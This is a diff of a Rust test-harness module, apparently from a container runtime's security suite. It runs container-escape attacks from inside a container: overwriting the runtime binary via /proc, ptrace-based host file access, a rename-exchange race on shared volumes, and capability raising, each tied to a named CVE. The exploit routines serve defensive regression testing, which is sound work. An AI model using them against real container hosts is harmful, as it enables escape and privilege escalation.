@@ -1,7 +1,8 @@
-//! What a hostile process tries from inside a container, for as long as nobody writes `/out/give-up`.
+//! Attacks the host or the runtime from inside a container, until `/out/give-up` exists. The test decides whether the
+//! results matter.
 //!
-//! It goes on as fast as it can, because what it is after is there for a moment only. What it got hold of it tells in
-//! `/out/told`, between the lines `ready` and `end`; whether that matters the test decides.
+//! An attack loops without a pause, because its target exists only for a moment. It reports its results in
+//! `/out/report`, between the lines `ready` and `end`.
 
 use crate::harness::kernel;
 use nix::{
@@ -17,26 +18,26 @@ use std::{
     process::{Command, ExitCode},
 };
 
-/// The attack that these words name.
+/// Runs the attack that the arguments name.
 pub(super) fn main(words: &[&str]) -> Option<ExitCode> {
     match words {
-        ["exe", file] => telling(|told| overwrite_exe(told, file)),
-        ["reach", host] => telling(|told| reach(told, host)),
-        ["swap", one, other] => telling(|told| swap(told, one, other)),
+        ["exe", file] => with_report(|report| overwrite_exe(report, file)),
+        ["reach", host] => with_report(|report| reach(report, host)),
+        ["swap", one, other] => with_report(|report| swap(report, one, other)),
         ["raise", command @ ..] => return Some(raise(command)),
         _ => return None,
     }
     Some(ExitCode::SUCCESS)
 }
 
-/// Tells what the attack tells. Whole lines only: the test looks while they are written.
-fn telling(attack: impl FnOnce(&dyn Fn(&str))) {
-    let file = File::create("/out/told").unwrap();
-    let told = |line: &str| (&file).write_all(format!("{line}\n").as_bytes()).unwrap();
-    told("ready");
-    attack(&told);
-    told("end");
-    // With the first process of a pid namespace every other one would end.
+/// Writes the report of the attack. Writes whole lines only, because the test reads the file meanwhile.
+fn with_report(attack: impl FnOnce(&dyn Fn(&str))) {
+    let file = File::create("/out/report").unwrap();
+    let report = |line: &str| (&file).write_all(format!("{line}\n").as_bytes()).unwrap();
+    report("ready");
+    attack(&report);
+    report("end");
+    // If the first process of a pid namespace exits, the kernel kills all others.
     nix::unistd::pause();
 }
 
@@ -44,7 +45,7 @@ fn given_up() -> bool {
     fs::exists("/out/give-up").unwrap_or(true)
 }
 
-/// The other processes of this pid namespace, without the first one.
+/// Returns the processes of this pid namespace, without the first one and this one.
 fn others() -> Vec<i32> {
     let own = i32::try_from(std::process::id()).unwrap();
     let all = fs::read_dir("/proc").unwrap();
@@ -52,16 +53,17 @@ fn others() -> Vec<i32> {
     pids.filter(|pid| *pid != 1 && *pid != own).collect()
 }
 
-/// Everything in a directory of `/proc/PID`, as far as it may be read.
+/// Returns all readable entries of a directory of `/proc/PID`.
 fn entries(directory: &str) -> Vec<String> {
     let names = fs::read_dir(directory).into_iter().flatten();
     names.filter_map(|entry| Some(format!("{directory}/{}", entry.ok()?.file_name().to_str()?))).collect()
 }
 
-/// CVE-2019-5736, CVE-2026-31431: looks for `file` (device:inode) behind the executable, the descriptors and the mappings
-/// of every other process, and writes to it as soon as it is no longer busy. Even where it cannot, holding it for
-/// reading is told: a bug of the page cache makes that enough. Says `held` with the way, then `wrote` or the refusal.
-fn overwrite_exe(told: &dyn Fn(&str), file: &str) {
+/// CVE-2019-5736, CVE-2026-31431: searches the executable, the file descriptors and the mappings of every other process
+/// for `file` (device:inode), and writes to the file once it is no longer busy. Reports the file even if it can only
+/// be opened for reading, because a page cache bug makes that enough. Reports `held` with the path, then `wrote` or the
+/// error.
+fn overwrite_exe(report: &dyn Fn(&str), file: &str) {
     let held = loop {
         let ways = others().into_iter().flat_map(|pid| {
             let base = format!("/proc/{pid}");
@@ -76,7 +78,7 @@ fn overwrite_exe(told: &dyn Fn(&str), file: &str) {
             Some((File::open(&way).ok()?, way))
         });
         if let Some((held, way)) = found {
-            told(&format!("held {way}"));
+            report(&format!("held {way}"));
             break held;
         }
         if given_up() {
@@ -95,14 +97,14 @@ fn overwrite_exe(told: &dyn Fn(&str), file: &str) {
         }
     };
     match answer {
-        Ok(()) => told("wrote"),
-        Err(error) => told(&error.to_string()),
+        Ok(()) => report("wrote"),
+        Err(error) => report(&error.to_string()),
     }
 }
 
-/// CVE-2016-9962: reads the host's file `host` by way of any process that appears, and traces it. Says a
-/// line for each thing it got, and how many processes it saw.
-fn reach(told: &dyn Fn(&str), host: &str) {
+/// CVE-2016-9962: reads the host's file `host` through any process that appears, and traces the process. Reports each
+/// success on a line of its own, and the number of processes it saw.
+fn reach(report: &dyn Fn(&str), host: &str) {
     let (mut seen, mut traced, mut reached) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
     while !given_up() {
         for pid in others() {
@@ -118,18 +120,19 @@ fn reach(told: &dyn Fn(&str), host: &str) {
             }
             if !traced.contains(&pid) && seize(pid) {
                 traced.insert(pid);
-                // Looked at while it stands still: it is the runtime's, unless it has become a program of the image.
+                // Reads the stopped process: it belongs to the runtime unless it already executes a program of the
+                // image.
                 let exe = fs::read_link(format!("{base}/exe")).unwrap_or_default();
                 let more = permitted(pid) & !permitted_to_us();
                 if !exe.starts_with("/bin") && more != 0 {
-                    told(&format!("traced {} with capabilities {more:x}", exe.display()));
+                    report(&format!("traced {} with capabilities {more:x}", exe.display()));
                 }
                 release(pid);
             }
         }
     }
-    reached.iter().for_each(|way| told(&format!("reached {way}")));
-    told(&format!("saw {}", seen.len()));
+    reached.iter().for_each(|way| report(&format!("reached {way}")));
+    report(&format!("saw {}", seen.len()));
 }
 
 fn trace(request: u64, pid: i32) -> bool {
@@ -147,7 +150,7 @@ fn seize(pid: i32) -> bool {
     }
 }
 
-/// Lets it go on. One that has ended meanwhile was reaped by the wait before.
+/// Resumes a process. If the process has exited, the wait in `seize` has reaped it.
 fn release(pid: i32) {
     const DETACH: u64 = 17;
     trace(DETACH, pid);
@@ -163,17 +166,17 @@ fn permitted_to_us() -> u64 {
     permitted(i32::try_from(std::process::id()).unwrap())
 }
 
-/// CVE-2021-30465: two names of a shared volume change places. Says how often they have.
-fn swap(told: &dyn Fn(&str), one: &str, other: &str) {
+/// CVE-2021-30465: exchanges two names of a shared volume in a loop. Reports the number of exchanges.
+fn swap(report: &dyn Fn(&str), one: &str, other: &str) {
     let mut count = 0_u64;
     while !given_up() {
         renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE).unwrap();
         count += 1;
     }
-    told(&format!("swapped {count}"));
+    report(&format!("swapped {count}"));
 }
 
-/// CVE-2016-8867, on the host's side: runs a command whose inheritable and ambient sets are full.
+/// CVE-2016-8867, on the host: runs a command with full inheritable and ambient capability sets.
 fn raise(command: &[&str]) -> ExitCode {
     let all = caps::read(None, caps::CapSet::Permitted).unwrap();
     caps::set(None, caps::CapSet::Inheritable, &all).unwrap();
